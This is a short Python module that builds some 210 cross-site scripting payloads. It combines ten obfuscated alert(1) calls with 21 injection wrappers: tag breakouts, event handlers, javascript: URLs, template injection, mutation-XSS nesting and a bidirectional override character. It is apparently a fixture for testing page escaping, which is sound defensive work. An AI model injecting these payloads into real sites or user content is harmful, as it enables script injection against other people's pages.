"""Texts that would run as a script wherever a page forgot to escape: every act in every disguise."""

from __future__ import annotations

ACTS = (
    "alert(1)",
    "alert`1`",
    "window['al'+'ert'](1)",
    "top.alert(1)",
    "self[`alert`](1)",
    "[1].map(alert)",
    "eval('ale'+'rt(1)')",
    "setTimeout('alert(1)')",
    "Function('alert(1)')()",
    "import('data:text/javascript,alert(1)')",
)

DISGUISES = (
    "<script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '"><script>{}</script>',
    "'><svg onload={}>",
    "<svg/onload={}>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'></iframe>",
    "<a href=javascript:{}>x</a>",
    'https://example.org/" onmouseover="{}',
    "https://example.org/'><script>{}</script>",
    "javascript:{}//https://example.org",
    "{{{{constructor.constructor('{}')()}}}}",
    "<!--><script>{}</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "\u202e<script>{}</script>",
)

PAYLOADS = tuple(disguise.format(act) for disguise in DISGUISES for act in ACTS)
"""Two hundred and more."""
